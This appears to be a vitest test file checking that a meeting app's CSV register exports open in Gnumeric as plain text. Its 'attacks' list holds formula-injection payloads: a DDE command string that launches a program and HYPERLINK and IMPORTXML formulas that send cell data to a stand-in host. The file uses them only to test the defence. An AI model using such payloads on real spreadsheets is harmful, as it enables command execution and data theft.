import { readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { beforeEach, describe, expect, test } from 'vitest'
import type { MadeRegister, RegisterRef } from '../../../shared/exports/contract'
import { csvOf } from '../../../shared/exports/csv'
import type { DocumentFinding } from '../../../shared/restricted/contract'
import { aroundOf } from '../../../shared/restricted/nameGuard/passes'
import { aConcern } from '../../builders/concerns'
import { readable, rfc4180 } from '../../builders/csvReader'
import { freshFolder } from '../../builders/folders'
import { Sitting } from '../../builders/sitting'
import { run } from '../../tools/programs'

/* A register leaves as a spreadsheet, and a spreadsheet program shows what was typed and computes nothing. */

interface Cell {
  /** What is shown of a text or a number; the formula of what is computed. */
  readonly said: string
  readonly kind: 'text' | 'number' | 'date' | 'formula'
}

/** What Gnumeric makes of a CSV file: its cells, row by row. */
async function openCsv(csv: string): Promise<Cell[][]> {
  const folder = await freshFolder()
  const from = join(folder, 'register.csv')
  const to = join(folder, 'register.xml')
  await writeFile(from, csv)
  const types = ['--import-type=Gnumeric_stf:stf_csvtab', '--export-type=Gnumeric_XmlIO:sax:0']
  const ended = await run('ssconvert', [...types, from, to], 'collect')
  if (!ended.ok) throw new Error(ended.output)
  const rows: Cell[][] = []
  const cell =
    /<gnm:Cell Row="(\d+)" Col="(\d+)"(?: ValueType="(\d+)")?(?: ValueFormat="([^"]*)")?[^>]*>([^<]*)</g
  for (const [, row, col, type, format, said = ''] of (await readFile(to, 'utf8')).matchAll(cell))
    (rows[Number(row)] ??= [])[Number(col)] = { said: toPlain(said), kind: kindOf(type, format) }
  return rows
}

/** Gnumeric's own numbers for kinds of values; what has none is computed. */
const kindOf = (type: string | undefined, format: string | undefined): Cell['kind'] =>
  type === '60' ? 'text' : type !== '40' ? 'formula' : format?.includes('yyyy') ? 'date' : 'number'

const toPlain = (xml: string): string =>
  xml
    .replaceAll(/&#(?:x([0-9a-f]+)|(\d+));/gi, (_whole, hex: string | undefined, decimal: string) =>
      String.fromCodePoint(hex === undefined ? Number(decimal) : Number.parseInt(hex, 16)),
    )
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&apos;', "'")
    .replaceAll('&amp;', '&')

const attacks = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,2)',
  '\t=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '  =1+1',
  '\u200b=1+1',
  '\u00a0=1+1',
  '\u22121',
  '=1+1\nand more',
  "'=1+1",
  '"=1+1"',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://larkmoor.example/?"&A1,"more")',
  '=1+1","=1+1',
  '+1 555 0142',
  '-5',
  'lamps;=1+1',
  'benches\r\n=1+1',
  '=IMPORTXML("http://larkmoor.example")',
]

describe('in a spreadsheet program', () => {
  test('what would be computed is shown as it was typed', async () => {
    const table = await openCsv(csvOf([['Typed'], ...attacks.map((text) => [text])]))
    expect(table.flat().filter(({ kind }) => kind !== 'text')).toEqual([])
    // Gnumeric takes an apostrophe at the front for “this is a text”, and line breaks for one kind.
    const normalize = (text: string): string => readable(text).replaceAll(/\r\n?/g, '\n')
    expect(table.slice(1).map(([cell]) => normalize(cell?.said ?? ''))).toEqual(
      attacks.map((text) => (text.startsWith("'") ? text.slice(1) : normalize(text))),
    )
  })

  test('the same without the apostrophes would be computed', async () => {
    const table = await openCsv('"Typed"\r\n"=1+1"\r\n"=SUM(1,2)"\r\n')
    expect(table.slice(1).map(([cell]) => cell?.kind)).toEqual(['formula', 'formula'])
  })

  test('numbers and days are numbers and days, and every script is readable', async () => {
    const texts = ['Zoë, Größe', 'ሰላም ጤና ይስጥልኝ', 'مرحبا', '你好', 'Đường Tern, Biển “xanh”']
    const [, cells] = await openCsv(
      csvOf([
        ['a', 'b', 'c'],
        ['2026-11-03', '12', ...texts],
      ]),
    )
    expect(cells?.map(({ kind }) => kind)).toEqual(['date', 'number', ...texts.map(() => 'text')])
    expect(cells?.slice(1).map(({ said }) => said)).toEqual(['12', ...texts])
  })
})

describe('a register', () => {
  let sitting: Sitting
  let neighborhoodId: string

  beforeEach(async () => {
    sitting = await Sitting.at(await freshFolder())
    await sitting.must({ type: 'app.sample' })
    neighborhoodId = sitting.open.record.neighborhood[0]?.id ?? ''
  })

  const concerns: RegisterRef = { register: 'concerns', show: 'open', neighborhoodId: null }

  const raise = (fields: Partial<ReturnType<typeof aConcern>>): Promise<string> =>
    sitting.must({ type: 'concern.add', fields: aConcern({ neighborhoodId, ...fields }) })

  test('is saved whole, though it is listed page by page, and opens as it was typed', async () => {
    for (let n = 0; n < 60; n += 1) await raise({ wording: `=Lamp ${n} is out` })
    const id = await raise({ wording: 'ጨለማ ነው።', hearBackBy: '2026-02-01' })
    const fields = { to: 'Heron Flats residents', reportedOn: '2026-03-04', language: 'Somali' }
    await sitting.must({ type: 'concern.reportBack', id, fields: { ...fields, how: 'visit' } })
    const { name, text } = await sitting.saveRegister(concerns)
    expect(name).toBe('concerns.csv')
    expect(sitting.host.saved.at(-1)?.place).toBe('public')
    expect(rfc4180(text.slice(1))).toHaveLength(62)
    const [head, ...rows] = await openCsv(text)
    // What was answered comes after what waits.
    const [answered] = rows.slice(-1)
    const others = rows.slice(0, -1)
    const column = (title: string): number => head?.findIndex((cell) => cell.said === title) ?? -1
    expect(answered?.[column('What was raised')]?.said).toBe('ጨለማ ነው።')
    expect(answered?.[column('They want to hear back by')]?.kind).toBe('date')
    expect(answered?.[column('Times reported back')]).toEqual({ said: '1', kind: 'number' })
    expect(answered?.[column('Reported back to')]?.said).toBe(
      '2026-03-04, on a visit, in Somali: Heron Flats residents',
    )
    const raised = others.map((row) => row[column('What was raised')])
    expect(raised).toContainEqual({ said: '=Lamp 0 is out', kind: 'text' })
    expect(new Set(raised.map((cell) => cell?.kind))).toEqual(new Set(['text']))
  })

  test('with what looks like a participant in it is not saved before somebody says who it is', async () => {
    await sitting.must({ type: 'restricted.settings', fields: { namesAllowed: true } })
    const person = { name: 'Ashby Tolliver', aliases: [], notForWorkgroup: false }
    await sitting.must({ type: 'participant.add', fields: person })
    const id = await raise({ effect: 'Tolliver is loud' })
    const { token } = await sitting.ask<MadeRegister>({ type: 'exports.make', ref: concerns })
    expect(await sitting.say({ type: 'document.save', token })).toMatch(/looks like a participant/)
    expect(sitting.host.saved).toEqual([])
    const through = (): Promise<{ findings: DocumentFinding[] }> =>
      sitting.ask({ type: 'nameGuard.document', token })
    const { findings } = await through()
    expect(findings).toMatchObject([
      {
        place: `concern ${id} effect`,
        where: 'Concern of Heron Flats, March 1, 2026',
        rowId: id,
      },
    ])
    for (const finding of findings) {
      const { place, words } = finding
      await sitting.must({ type: 'nameGuard.pass', place, words, around: aroundOf(finding) })
    }
    expect(await sitting.say({ type: 'document.save', token })).toBeNull()
    expect(sitting.host.saved).toHaveLength(1)
  })

  test('says nothing that a private note says, and is unchecked only when somebody said so', async () => {
    await raise({})
    await sitting.must({ type: 'pane.lock' })
    const { token } = await sitting.ask<MadeRegister>({ type: 'exports.make', ref: concerns })
    expect(await sitting.say({ type: 'document.save', token })).toMatch(/locked/)
    expect(await sitting.say({ type: 'document.save', token, unchecked: true })).toBeNull()
  })

  test('doesn’t hold up the meeting while its place is chosen', async () => {
    await raise({})
    const { token } = await sitting.ask<MadeRegister>({ type: 'exports.make', ref: concerns })
    let choose = (_outcome: { kind: 'cancelled' }): void => undefined
    sitting.host.saveAs = () => new Promise((resolve) => (choose = resolve))
    const saving = sitting.say({ type: 'document.save', token })
    await raise({ wording: 'Glass on the path.' })
    choose({ kind: 'cancelled' })
    expect(await saving).toBeNull()
  })
})
